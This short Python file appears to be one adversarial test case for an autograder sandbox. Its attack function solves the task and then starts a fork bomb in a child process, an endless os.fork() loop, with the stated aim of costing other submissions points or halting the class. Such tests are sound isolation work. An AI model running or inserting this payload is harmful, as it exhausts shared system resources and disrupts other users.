"""The test in the child forks without end.

Success: another question or a neighbor loses points, or the class stops.
"""

ALONE = True
DESERVES = ["square", "standardize", "total", "words", "distance", "root", "primes"]


def attack(submission):
    submission.solve()
    submission.in_child(
        """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """,
    )
